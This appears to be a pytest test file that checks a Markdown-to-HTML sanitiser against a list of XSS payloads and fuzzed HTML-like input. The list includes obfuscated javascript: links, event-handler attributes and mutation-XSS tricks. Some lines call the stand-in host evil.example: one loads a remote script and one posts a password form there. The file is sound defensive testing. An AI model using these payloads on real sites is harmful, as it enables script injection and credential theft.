"""Untrusted story Markdown becomes HTML with only allowlisted tags, attributes and URL schemes."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from storybook.render.markdown import ALLOWED_TAGS, markdown_to_html, sanitise

# Payloads, each in Markdown, as raw HTML in Markdown, or both.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "![x](x onerror=alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<https://ok.example/> <javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p id="main" name="x" class="y">x</p>',
    "<!-- a comment --><p>x</p>",
    "<!--><script>alert(1)</script>-->",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://ok.example" target="_blank">x</a>',
]


class _Inspector(HTMLParser):
    """Everything a browser would act on in a piece of HTML: elements, attributes, link targets, comments."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.hrefs: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name == "href":
                self.hrefs.append(value or "")

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_harmless(html: str) -> None:
    seen = _Inspector()
    seen.feed(html)
    seen.close()
    assert seen.tags <= ALLOWED_TAGS, (seen.tags - ALLOWED_TAGS, html)
    assert seen.attributes <= ALLOWED, (seen.attributes - ALLOWED, html)
    assert not seen.comments, html
    for href in seen.hrefs:
        # An entity-decoded, whitespace-stripped href must be relative, a fragment, or use an allowed scheme.
        scheme = re.match(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*):", href)
        assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto"}, (href, html)
    assert "<script" not in html.lower() and "<img" not in html.lower()


# (tag, attribute) pairs a browser may see: the allowlist, plus the rel that nh3 adds to links.
ALLOWED = {("a", "href"), ("a", "title"), ("a", "rel"), ("abbr", "title"), ("th", "scope"), ("ol", "start")}


@pytest.mark.parametrize(
    "html",
    ['<a href="javascript:x">a</a>', '<a href="&#106;avascript:x">a</a>', '<a href=" JAVASCRIPT:x">a</a>',
     '<p style="color:red">a</p>', '<p id="x">a</p>', "<!-- c -->", "<img src=x>", "<p onclick=x>a</p>",
     '<a href="data:text/html,x">a</a>'],
)
def test_the_inspector_itself_catches_dangerous_html(html: str) -> None:
    with pytest.raises(AssertionError):
        assert_harmless(html)


@pytest.mark.parametrize("payload", XSS)
def test_xss_payloads_are_neutralised(payload: str) -> None:
    html = markdown_to_html(payload)
    assert_harmless(html)
    assert sanitise(html) == html


@pytest.mark.parametrize("payload", XSS)
def test_sanitise_alone_neutralises_raw_html(payload: str) -> None:
    assert_harmless(sanitise(payload))


def test_only_allowed_tags_remain() -> None:
    html = markdown_to_html("\n\n".join(XSS))
    tags = set(re.findall(r"</?([a-zA-Z0-9]+)", html))
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS


def test_script_content_is_dropped_not_shown() -> None:
    assert "alert" not in markdown_to_html("<script>alert(1)</script>")
    assert markdown_to_html("<style>body { display: none }</style>") == ""


def test_safe_links_keep_their_href_and_get_rel() -> None:
    html = markdown_to_html('[the data](https://example.org/data "Data") and [mail](mailto:team@example.org)')
    assert '<a href="https://example.org/data" title="Data" rel="noopener noreferrer">the data</a>' in html
    assert '<a href="mailto:team@example.org" rel="noopener noreferrer">mail</a>' in html


def test_provenance_links_from_expressions_survive() -> None:
    html = markdown_to_html('We found [97%](#prov-metric-test-recall "metric test_recall of run 0123") of them.')
    assert '<a href="#prov-metric-test-recall" title="metric test_recall of run 0123"' in html


def test_javascript_link_loses_its_href_but_keeps_its_text() -> None:
    html = markdown_to_html('<a href="JaVaScRiPt:alert(1)">read more</a>')
    assert "read more" in html
    assert "href" not in html


@pytest.mark.parametrize(
    ("markdown", "tag"),
    [("# Title", "h3"), ("## Part", "h4"), ("### Sub", "h5"), ("#### Deeper", "h6"), ("###### Deepest", "h6"),
     ("Title\n=====", "h3"), ("Part\n----", "h4")],
)
def test_headings_shift_down_two_levels(markdown: str, tag: str) -> None:
    html = markdown_to_html(markdown)
    assert html.startswith(f"<{tag}>") and html.rstrip().endswith(f"</{tag}>"), html


def test_raw_h1_and_h2_are_unwrapped() -> None:
    html = markdown_to_html("<h1>Big</h1>\n\n<h2>Bigger</h2>")
    assert "<h1" not in html and "<h2" not in html
    assert "Big" in html and "Bigger" in html


def test_tables_render() -> None:
    html = markdown_to_html("| Group | Found |\n|---|--:|\n| small | 80% |\n| large | 95% |\n")
    assert "<table>" in html
    assert "<th>Group</th>" in html
    assert "<td>small</td>" in html and "<td>95%</td>" in html
    assert "style" not in html  # the alignment style is dropped with every other style attribute


def test_ordinary_markdown_renders() -> None:
    html = markdown_to_html("Some *emphasis*, **strong**, `code` and ~~gone~~.\n\n- one\n- two\n\n> quoted\n")
    for fragment in ("<em>emphasis</em>", "<strong>strong</strong>", "<code>code</code>", "<s>gone</s>",
                     "<li>one</li>", "<blockquote>"):
        assert fragment in html


def test_code_blocks_keep_their_text_escaped() -> None:
    html = markdown_to_html("```\n<script>alert(1)</script>\n```\n")
    assert "&lt;script&gt;" in html
    assert "<script" not in html


def test_sanitise_is_idempotent_for_pre_with_leading_newlines() -> None:
    once = sanitise("<pre>\n\n\nx</pre>")
    assert sanitise(once) == once


@pytest.mark.parametrize(
    "html",
    ["0<select>", "<p>a<button><p>b</button></p>", "<p>1<select><p>2<select><p>3<select>",
     "<ul><li>a<button><li>b<button><li>c", "<table><tr><td>x</td></tr>junk</table>", "<a href=https://a>1<a href=https://b>2"],
)
def test_sanitise_is_idempotent_when_unwrapping_changes_the_tree(html: str) -> None:
    once = sanitise(html)
    assert sanitise(once) == once
    assert sanitise(markdown_to_html(html)) == markdown_to_html(html)


HTMLISH = st.lists(
    st.one_of(
        st.sampled_from(["\n", " ", "x", "&", "&amp;", "&#106;", "<", ">", '"', "'", "=", "<!--", "-->", "</", "/>",
                         " href=", "javascript:", "https://a", "\t", "\x00", "# ", "| a |\n|---|\n", "```\n", "[x](",
                         ")", "*"]),
        st.sampled_from([*sorted(ALLOWED_TAGS), "script", "style", "svg", "select", "button", "form", "textarea",
                         "template", "noscript", "object", "table", "td", "xmp"])
        .flatmap(lambda tag: st.sampled_from([f"<{tag}>", f"</{tag}>"])),
    ),
    max_size=30,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(), HTMLISH))
def test_sanitise_twice_changes_nothing(text: str) -> None:
    once = sanitise(text)
    assert sanitise(once) == once
    assert_harmless(once)
    html = markdown_to_html(text)
    assert sanitise(html) == html
    assert_harmless(html)
